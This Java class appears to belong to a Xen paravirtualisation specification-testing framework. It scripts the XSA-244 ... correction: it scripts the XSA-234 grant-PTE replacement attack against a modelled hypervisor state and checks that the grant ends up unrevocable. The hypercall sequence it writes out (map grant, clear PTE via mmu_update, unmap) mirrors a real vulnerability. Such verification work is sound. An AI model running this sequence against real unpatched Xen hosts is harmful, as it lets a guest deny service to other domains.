package pvspec.guests.attack;

import static pvspec.guests.attack.Expect.err;
import static pvspec.guests.attack.Expect.gnt;
import static pvspec.model.abi.Errno.EBUSY;
import static pvspec.model.abi.Gntst.GNTST_general_error;

import java.util.List;
import pvspec.guests.hypercall.Calls;
import pvspec.guests.kernel.Kernel;
import pvspec.guests.kernel.Layout;
import pvspec.model.abi.Pte;
import pvspec.model.abi.Result;
import pvspec.model.abi.TrapInfo;
import pvspec.model.rules.TrapRules;
import pvspec.model.state.Frame;
import pvspec.model.state.GrantEntry;

/**
 * XSA-234 class: a grant PTE is replaced by an ordinary page-table update, then unmapped. Xen
 * lets the update replace it ({@code put_page_from_l1e} drops the references the map took: they
 * belong to the PTE), and the unmap then fails {@code replace_grant_pv_mapping}'s check that the
 * PTE still maps the grant, so the references are not dropped a second time. The grant stays in
 * use: the granter cannot revoke it. The debug build reports the implicit unmap with a #GP to the
 * updating vCPU (mm.c:1219-1227), so the grantee installs a #GP handler first.
 */
public final class Xsa234ReplacedGrantPte implements Attack {
    @Override
    public AttackInfo info() {
        return new AttackInfo("replaced-grant-pte-unmap", "XSA-234", "grant unmap after the grant PTE was replaced",
                "map a grant writable, clear its PTE with mmu_update, then unmap the handle",
                "GNTST_general_error: the PTE no longer maps the grant; the frame's references are dropped once");
    }

    @Override
    public void run(AttackScript s) {
        GrantedGuests g = GrantedGuests.setUp(s);
        long frame = g.frame();
        g.granter().hp().ok(Calls.grantAccess(0, g.grantee().domid(), frame, false));
        long text = g.grantee().va(g.grantee().data(0));
        s.attempt(g.grantee().hp(), Calls.setTrapTable(List.of(new TrapInfo(TrapRules.GENERAL_PROTECTION, 0, Kernel.FLAT_KERNEL_CS64, text))), Result.OK);
        Frame before = s.state().frame(frame);
        int handle = (int) g.grantee().hp().value(Calls.mapGrantRef(g.granter().domid(), 0, false, g.grantee().spareVa(0)));
        Layout.Slot slot = g.grantee().spareSlot(0);
        s.attempt(g.grantee().hp(), Calls.mmuUpdate(slot.table(), slot.index(), Pte.NONE), Result.OK);
        s.attempt(g.grantee().hp(), Calls.unmapGrantRef(handle, g.grantee().spareVa(0)), gnt(GNTST_general_error));
        s.attempt(g.granter().hp(), Calls.endAccess(0), err(EBUSY));
        s.postcondition("the frame's counts are back to what they were before the map; the grant is still in use; the grantee got the #GP", st -> {
            Frame f = st.frame(frame);
            GrantEntry e = st.dom(g.granter().domid()).grants().get(0);
            boolean gp = st.dom(g.grantee().domid()).vcpu(0).lastTrap().map(b -> b.vector() == TrapRules.GENERAL_PROTECTION).orElse(false);
            return f.count() == before.count() && f.typeCount() == before.typeCount() && e.inUse() && gp;
        });
    }
}
